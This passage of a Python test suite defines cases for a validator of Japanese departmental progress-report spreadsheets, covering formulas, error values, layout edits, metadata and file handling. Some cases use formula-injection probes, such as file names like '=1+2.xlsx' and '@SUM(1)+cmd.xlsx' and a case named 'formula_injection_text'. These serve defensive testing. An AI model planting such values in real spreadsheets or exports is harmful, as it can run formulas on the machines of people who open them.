        "unused_wide_memo_sheet",
        edited(mutate=wide_memo_sheet),
        (Expect("F22"),),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "styled_empty_cell_on_the_last_row",
        edited(mutate=styled_empty_cell("A1048576")),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "styled_empty_cell_in_the_last_column",
        edited(mutate=styled_empty_cell("XFD7")),
        values=VALID_ACTUALS,
        clean=True,
    ),
    # --- 実績値 that is not a plain number --------------------------------------------------------
    Case(
        "formula_without_cached_value", edited({"H7": Formula("=100+20")}), (Expect("V03", "H7"),)
    ),
    Case(
        "formula_with_cached_value",
        with_xml_cell("H7", b'<c r="H7" s="10"><f>100+20</f><v>120</v></c>'),
        (Expect("V02", "H7"),),
        values={7: Decimal(120)},
    ),
    Case(
        "formula_with_cached_text",
        with_xml_cell("H7", b'<c r="H7" t="str"><f>"1,"&amp;"200"</f><v>1,200</v></c>'),
        (Expect("V02", "H7"),),
        values={7: Decimal(1200)},
    ),
    Case(
        "formula_with_cached_error",
        with_xml_cell("H7", b'<c r="H7" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
        (Expect("V04", "H7"),),
    ),
    Case(
        "shared_formula_with_cached_value",
        with_xml_cell("H7", b'<c r="H7"><f t="shared" ref="H7:H7" si="0">G7*1.2</f><v>120</v></c>'),
        (Expect("V02", "H7"),),
        values={7: Decimal(120)},
    ),
    Case("duplicate_zip_entries", duplicate_sheet_entry, (Expect("V04", "H7"),)),
    Case("error_div0", edited({"H7": ErrorValue("#DIV/0!")}), (Expect("V04", "H7"),)),
    Case("error_na", edited({"H8": ErrorValue("#N/A")}), (Expect("V04", "H8"),)),
    Case("error_value", edited({"H7": ErrorValue("#VALUE!")}), (Expect("V04", "H7"),)),
    Case(
        "error_in_grade_column",
        edited({"J7": ErrorValue("#REF!")}),
        (Expect("V04", "J7"),),
    ),
    Case("date_in_actual", edited({"H7": dt.datetime(2025, 3, 31)}), (Expect("V01", "H7"),)),
    Case(
        "iso_date_cell_in_actual",
        with_xml_cell("H7", b'<c r="H7" t="d"><v>2025-03-31T00:00:00</v></c>'),
        (Expect("V01", "H7"),),
    ),
    Case("true_in_actual", edited({"H7": True}), (Expect("V01", "H7"),)),
    Case("mishuukei_in_actual", edited({"H7": "未集計"}), (Expect("V01", "H7"),)),
    Case(
        "man_multiplier",
        edited({"H7": "1.2万"}),
        (Expect("V10", "H7"),),
        values={7: Decimal(12000)},
    ),
    Case(
        "fullwidth_number_with_unit",
        edited({"H7": "１，２００件"}),
        values={7: Decimal(1200)},
        clean=True,
    ),
    Case(
        "rich_text_number",
        with_xml_cell(
            "H7",
            b'<c r="H7" t="inlineStr"><is><r><t>1,</t></r>'
            b"<r><rPr><b/></rPr><t>200</t></r></is></c>",
        ),
        values={7: Decimal(1200)},
        clean=True,
    ),
    Case(
        "number_beyond_float_range",
        edited({"H7": "1e400"}),
        check=_row7_counted_or_flagged,
    ),
    Case("largest_float", edited({"H7": 1.7976931348623157e308}), check=_row7_counted_or_flagged),
    Case(
        "triangle_negative",
        edited({"H7": "△5", "J7": "C", "L7": "利用が減った。"}),
        values={7: Decimal(-5)},
        clean=True,
    ),
    Case("dash_means_no_value", edited({"H8": "－"}), values={8: None}, clean=True),
    Case(
        "percent_formatted_fraction",
        edited({"H8": 0.4, "J8": "C", "L8": "回答率が低い。"}, formats={"H8": "0%"}),
        (Expect("V11", "H8"),),
        values={8: Decimal(40)},
    ),
    # --- layout changes -------------------------------------------------------------------------
    Case(
        "merged_cells_over_data_rows",
        edited({"K7": "二行分の取組。"}, mutate=merge("K7:K8")),
        check=_merged_text_is_kept_or_flagged,
    ),
    Case("hidden_rows", edited(mutate=hide_row(8)), values=VALID_ACTUALS, clean=True),
    Case("autofilter_left_on", edited(mutate=filter_on), values=VALID_ACTUALS, clean=True),
    Case("extra_sheets", edited(mutate=extra_sheets), values=VALID_ACTUALS, clean=True),
    Case(
        "rows_inserted_above_header",
        edited(mutate=insert_rows_above),
        values={9: Decimal(120), 10: Decimal(65)},
        clean=True,
    ),
    Case(
        "malformed_sheet_xml",
        raw(
            lambda b: rezip(
                b.filled, lambda n, d: d[: len(d) // 2] if n.endswith("sheet1.xml") else d
            )
        ),
        _e("F01"),
    ),
    Case(
        "shared_string_index_out_of_range",
        with_xml_cell("K7", b'<c r="K7" t="s"><v>99999</v></c>'),
        _e("F01"),
    ),
    Case("renamed_sheet", edited(mutate=rename_sheet), _e("F06")),
    Case("renamed_header", edited({"L6": "課題等"}), (Expect("F09"), Expect("F18", "L6"))),
    Case(
        "inserted_column",
        edited(mutate=insert_column),
        (Expect("F18", "H6"),),
        values={7: Decimal(120), 8: Decimal(65)},
    ),
    Case("deleted_column", edited(mutate=delete_column), _e("F09")),
    Case("reordered_columns", edited(mutate=swap_columns), values=VALID_ACTUALS, clean=True),
    # --- locked content and rows ----------------------------------------------------------------
    Case(
        "edited_target_value", edited({"G7": 50}), (Expect("I01", "G7"),), values={8: Decimal(65)}
    ),
    Case("edited_target_name", edited({"C8": "利用者満足度"}), (Expect("I01", "C8"),)),
    Case("edited_number", edited({"A9": "1-(1)-⑨"}), (Expect("I02", "A9"), Expect("I03"))),
    Case(
        "added_row",
        edited(mutate=add_row("1-(1)-①|支援事業|新しい指標|件|増加||10|5")),
        (Expect("I02", "A11"),),
        values={7: Decimal(120)},
    ),
    Case("deleted_row", edited(mutate=delete_row(8)), (Expect("I03"),), values={7: Decimal(120)}),
    Case("duplicated_row", edited(mutate=copy_row(7, 11)), (Expect("I04", "A11"),)),
    Case(
        "row_of_another_department",
        edited(mutate=add_row("1-(1)-④|対話事業|回数|回|増加||10|9||B|開催。||継続")),
        (Expect("I05", "A11"),),
        values={7: Decimal(120)},
    ),
    Case(
        "fullwidth_number_typed_again",
        edited({"A7": "１－（１）－①", "A8": " 1-(1)-① "}),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "target_retyped_as_text",
        edited({"G7": "100", "G8": "７０"}),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "rows_sorted_differently",
        edited(mutate=swap_rows(7, 9)),
        values={7: "策定", 8: Decimal(65), 9: Decimal(120), 10: None},
        clean=True,
    ),
    Case("edited_direction", edited({"E7": "減少"}), (Expect("I01", "E7"),)),
    # --- identity -------------------------------------------------------------------------------
    Case("meta_removed", edited(mutate=drop_meta), _e("F10"), values=VALID_ACTUALS),
    Case("meta_emptied", edited(mutate=empty_meta), _e("F10"), values=VALID_ACTUALS),
    Case(
        "meta_removed_and_numbers_unknown",
        edited({"A7": "x", "A8": "y", "A9": "z", "A10": "w"}, mutate=drop_meta),
        _e("F11"),
    ),
    Case("meta_unknown_department", edited(mutate=meta_cell("B3", "Z課")), _e("B04")),
    Case(
        "meta_of_another_department",
        edited(mutate=meta_cell("B3", OTHER)),
        (
            Expect("I05", "A7"),
            Expect("I03"),
        ),
    ),
    Case("meta_year_garbage", edited(mutate=meta_cell("B2", "来年")), _e("F08")),
    Case(
        "sheet_name_with_fullwidth_space",
        edited({"H7": "未集計"}, mutate=rename_sheet_to("進捗状況\u3000")),
        (Expect("V01", "H7"),),
    ),
    Case("meta_other_plan", edited(mutate=meta_cell("B1", "other-plan")), _e("F07")),
    # the only file is of another year: its F08, and the secretariat's --year mistake (B05)
    Case(
        "last_years_template", edited(source="last_year"), (Expect("F08"), Expect("B05", file=""))
    ),
    Case(
        "older_template_version",
        edited(mutate=meta_cell("B4", "0")),
        _e("F13"),
        values=VALID_ACTUALS,
    ),
    Case(
        "meta_year_as_wareki_text",
        edited(mutate=meta_cell("B2", "令和７年度")),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "other_departments_file_renamed",
        edited(source="other", name=MAIN),
        values={7: Decimal(120)},
        clean=True,
    ),
    Case(
        "lock_file_and_text_file",
        both(
            edited(),
            raw(lambda b: b"\x0c\x00lock", "~$進捗状況_A課_2025年度.xlsx"),
            raw(lambda b: "提出します。".encode(), "送付状.txt"),
        ),
        (
            Expect("F16", file="~$進捗状況_A課_2025年度.xlsx"),
            Expect("F15", file="送付状.txt"),
        ),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "two_files_same_department",
        both(
            edited({"H7": 100}, name="旧/進捗状況_A課.xlsx", saved_at=NEW - dt.timedelta(days=3)),
            edited({"H7": 130}, name=MAIN, saved_at=NEW),
        ),
        (Expect("B03", file="旧/進捗状況_A課.xlsx"),),
        values={7: Decimal(130)},
        clean=True,
    ),
    Case(
        "saved_times_with_offsets",
        both(
            edited({"H7": 100}, name="a_初回.xlsx", after=saved_as(b"2025-06-01T17:00:00+09:00")),
            edited({"H7": 130}, name="b_修正.xlsx", after=saved_as(b"2025-06-01T09:00:00Z")),
        ),
        (Expect("B03", file="a_初回.xlsx"),),
        values={7: Decimal(130)},
        main="b_修正.xlsx",
    ),
    Case(
        "file_names_like_formulas",
        both(
            edited(name="=1+2.xlsx"),
            edited(name="@SUM(1)+cmd.xlsx", source="other"),
            raw(lambda b: b"memo", "-memo.txt"),
        ),
        (Expect("F15", file="-memo.txt"),),
        values=VALID_ACTUALS,
        main="=1+2.xlsx",
        clean=True,
    ),
    Case(
        "file_name_not_utf8",
        non_utf8_name,
        values=VALID_ACTUALS,
        clean=True,
        main=NON_UTF8_NAME.decode("cp932"),  # shown decoded as Shift_JIS
    ),
    # --- other editable cells -------------------------------------------------------------------
    Case("grade_missing", edited({"J7": None}), (Expect("V05", "J7"),)),
    Case("grade_d", edited({"J7": "D"}), (Expect("V06", "J7"),)),
    Case(
        "grade_fullwidth_and_suffix", edited({"J7": "Ａ評価"}), values={7: Decimal(120)}, clean=True
    ),
    Case("work_done_missing", edited({"K7": None}), (Expect("V07", "K7"),)),
    Case("lowest_grade_without_issue", edited({"J8": "C"}), (Expect("V08", "L8"),)),
    Case("outlook_not_in_list", edited({"M7": "様子見"}), (Expect("V09", "M7"),)),
    Case("outlook_missing", edited({"M7": None}), (Expect("V12", "M7"),)),
    Case(
        "text_of_40000_characters",
        with_xml_cell(
            "K7", b'<c r="K7" t="inlineStr"><is><t>' + "長".encode() * 40_000 + b"</t></is></c>"
        ),
        check=_long_text_survives,
    ),
    Case(
        "formula_injection_text",
        edited(INJECTION, saved_at=LATEST),
        (Expect("V01", "H7"),),
        values={8: Decimal(65)},
    ),
)


def case_by_name(name: str) -> Case:
    return next(c for c in CASES if c.name == name)
